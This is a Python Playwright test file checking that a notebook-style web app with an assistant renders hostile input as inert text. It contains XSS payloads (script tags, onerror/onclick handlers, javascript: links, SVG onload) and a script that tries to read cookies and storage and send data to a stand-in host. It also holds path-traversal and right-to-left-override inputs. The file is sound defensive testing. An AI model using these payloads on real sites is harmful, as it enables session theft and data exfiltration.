"""Hostile and odd text everywhere: it is shown as text, reaches nothing, and leaves the page working."""

from collections.abc import Callable

import pytest
from conftest import arrive
from playwright.sync_api import expect
from tab import Tab
from website import Site, Visitor

Come = Callable[..., Visitor]
MARKUP = """<img src=x onerror="window.hit='img'"><script>window.hit='script'</script><b onclick="hit=1">bold</b>"""
MARKDOWN = "[click](javascript:window.hit='link') ![x](http://192.0.2.1/leak.png) **bold**"
ATTACK = f"{MARKUP} {MARKDOWN}"
ARABIC = "\u0627\u0643\u062a\u0628 \u062f\u0627\u0644\u0629"
OVERRIDE = "\u202egnp.exe\u202c"


def test_markup_in_a_request_is_shown_as_it_was_written(tab: Tab) -> None:
    tab.ask(ATTACK)
    tab.answered(1)
    expect(tab.turn(1)).to_contain_text(ATTACK)
    unharmed(tab)


def test_markup_in_a_title_is_shown_as_it_was_written(tab: Tab) -> None:
    tab.first("a = 1")
    tab.act("rename", title=MARKUP)
    expect(tab.page.get_by_role("heading", level=1)).to_have_text(MARKUP)
    expect(tab.sidebar.get_by_role("link")).to_contain_text(MARKUP)
    unharmed(tab)


def test_markup_in_code_is_shown_as_it_was_written(tab: Tab) -> None:
    tab.first(f"text = '''{MARKUP}'''")
    expect(tab.editor(1)).to_contain_text(MARKUP)
    unharmed(tab)


def test_markup_in_an_answer_is_shown_as_it_was_written(site: Callable[..., Site], visitor: Come) -> None:
    reply = f"```python\ndef f() -> str:\n    return '</script>{MARKUP}'\n```\n{ATTACK}"
    tab = arrive(site([reply]), visitor)
    tab.ask("anything")
    tab.answered(1)
    expect(tab.turn(1)).to_contain_text(MARKUP)
    expect(tab.editor(1)).to_contain_text(MARKUP)
    unharmed(tab)


def test_markup_that_is_printed_or_raised_is_shown_as_text(tab: Tab) -> None:
    tab.first(f"text = {MARKUP!r}\nprint(text)\nraise ValueError(text)")
    expect(tab.run(1)).to_contain_text(MARKUP)
    expect(tab.page.get_by_role("group", name="Error in cell 1")).to_contain_text(MARKUP)
    unharmed(tab)


SCRIPT = """
const tries = {
  parent: () => parent.document.title,
  top: () => { top.location = "http://192.0.2.1/top" },
  storage: () => localStorage.length,
  cookie: () => document.cookie,
  form: () => {
    const form = Object.assign(document.createElement("form"), {action: "http://192.0.2.1/form"});
    document.body.append(form);
    form.submit();
  },
  opened: () => { if (window.open("http://192.0.2.1/open")) return; throw "blocked" },
};
const got = [];
for (const [name, attempt] of Object.entries(tries)) {
  try { attempt(); if (!["top", "form"].includes(name)) got.push(name) } catch {}
}
new Image().src = "http://192.0.2.1/image";
document.body.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: "http://192.0.2.1/style"}));
fetch("http://192.0.2.1/fetch").then(() => got.push("fetch"), () => {}).finally(() => {
  document.body.append("tried; got: " + (got.join() || "nothing"));
});
"""


@pytest.mark.parametrize("kind", ["text/html", "application/javascript"])
def test_scripts_in_an_output_reach_neither_the_page_nor_the_network(kind: str, tab: Tab) -> None:
    data = f"<script>{SCRIPT}</script>" if kind == "text/html" else SCRIPT
    tab.first(f"from IPython.display import display\n\ndisplay({{{kind!r}: {data!r}}}, raw=True)")
    address = tab.page.url
    frame = tab.run(1).locator("iframe")
    expect(frame).to_have_attribute("sandbox", "allow-scripts")
    expect(frame.content_frame.locator("body")).to_contain_text("tried; got: nothing")
    assert tab.page.url == address
    unharmed(tab)


def test_a_frame_that_navigates_itself_does_not_get_away(tab: Tab) -> None:
    away = "<p>before</p><script>location = 'http://192.0.2.1/away?' + document.title</script>"
    tab.first(f"from IPython.display import HTML\n\nHTML({away!r})")
    tab.run(1)
    tab.add("print('still here')")
    expect(tab.run(2)).to_contain_text("still here")


def test_svg_and_markdown_outputs_run_no_scripts(tab: Tab) -> None:
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hit=1'><script>parent.hit=1</script></svg>"
    lines = [
        "from IPython.display import Markdown, SVG, display",
        f"display(SVG({svg!r}))",
        f"display(Markdown({ATTACK!r}))",
    ]
    tab.first("\n".join(lines))
    tab.run(1)
    expect(tab.output(1)).to_contain_text("bold")
    unharmed(tab)


def test_a_request_of_a_hundred_thousand_characters_is_taken_and_folded(tab: Tab) -> None:
    request = "Sort a list. " + "x" * (100_000 - 13)
    tab.ask(request)
    tab.settles(lambda view: len(view["turns"]) == 1 and view["turns"][0]["status"] in {"done", "failed"})
    expect(tab.turn(1)).to_contain_text("show all 100000 characters")
    assert tab.view()["turns"][0]["request"] == request


def test_a_longer_request_is_refused_with_its_length_and_stays_in_the_composer(tab: Tab) -> None:
    request = "x" * 100_001
    tab.ask(request)
    expect(tab.page.get_by_text("The request has 100,001 characters; 100,000 is the most.").first).to_be_visible()
    expect(tab.composer).to_have_value(request)
    assert tab.view()["turns"] == []


def test_nul_and_half_characters_become_visible_signs_and_break_nothing(tab: Tab) -> None:
    odd = "sort\x00this \ud800 list"
    turn = tab.act("ask", request=odd)
    assert "turn" in turn, turn
    tab.answered(1)
    expect(tab.turn(1)).to_contain_text("sort\u2400this \ufffd list")
    tab.act("add_cell", after=None, source="text = '\x00\ud800'")
    tab.settles(lambda view: view["cells"][0]["source"] == "text = '\u2400\ufffd'")


def test_right_to_left_text_reads_from_the_right_and_code_from_the_left(tab: Tab) -> None:
    tab.ask(ARABIC)
    tab.answered(1)
    request = tab.turn(1).get_by_text(ARABIC)
    assert request.evaluate("it => getComputedStyle(it).direction") == "rtl"
    assert tab.editor(1).evaluate("it => getComputedStyle(it).direction") == "ltr"


def test_signs_that_reorder_code_on_the_screen_are_made_visible(tab: Tab) -> None:
    tab.first(f"name = '{OVERRIDE}'")
    expect(tab.editor(1).locator(".cm-specialChar")).to_have_count(2)


def test_an_unknown_session_in_the_address_says_so_and_offers_a_new_one(playground: Site, visitor: Come) -> None:
    page = visitor(playground).page("?session=" + "0" * 32)
    notice = page.get_by_role("alert")
    expect(notice).to_contain_text("0" * 32)
    notice.get_by_role("button", name="New session").click()
    Tab(page, playground).opened()


@pytest.mark.parametrize("name", ["..%2F..%2Fetc", "%00", "%ED%A0%80", "<script>", "a" * 5000])
def test_an_odd_session_in_the_address_says_so(name: str, playground: Site, visitor: Come) -> None:
    page = visitor(playground).page(f"?session={name}")
    expect(page.get_by_role("alert").get_by_role("button", name="New session")).to_be_visible()


def test_an_unknown_token_to_fork_says_so(playground: Site, visitor: Come) -> None:
    page = visitor(playground).page("?fork=" + "x" * 32)
    expect(page.get_by_role("alert")).to_contain_text("This link does not work any more")


@pytest.mark.parametrize(
    "payload", [None, 7, "text", [], {}, {"kind": "__init__"}, {"kind": "ask"}, {"kind": "edit", "cell": {}}]
)
def test_a_payload_that_makes_no_sense_gets_a_fault_in_words(payload: object, tab: Tab) -> None:
    sent = payload if not isinstance(payload, dict) else {"owner": tab.key, "session": tab.session, **payload}
    answer = tab.site.call(sent)
    assert len(answer["fault"]["message"]) > 20
    assert "Traceback" not in answer["fault"]["message"]


def test_a_flood_of_output_leaves_the_page_working(tab: Tab) -> None:
    tab.first("for number in range(200_000):\n    print(number, 'x' * 60)")
    tab.run(1)
    expect(tab.cell(1)).to_contain_text("output")
    tab.add("print('still here')")
    expect(tab.run(2)).to_contain_text("still here")


def unharmed(tab: Tab) -> None:
    """Nothing that was injected ran, and the page still answers."""
    assert tab.page.evaluate("window.hit === undefined")
    assert tab.page.locator(".cg img[src=x], .cg script, .cg b[onclick], .cg a[href^='javascript']").count() == 0
    tab.write("still working")
    expect(tab.composer).to_have_value("still working")
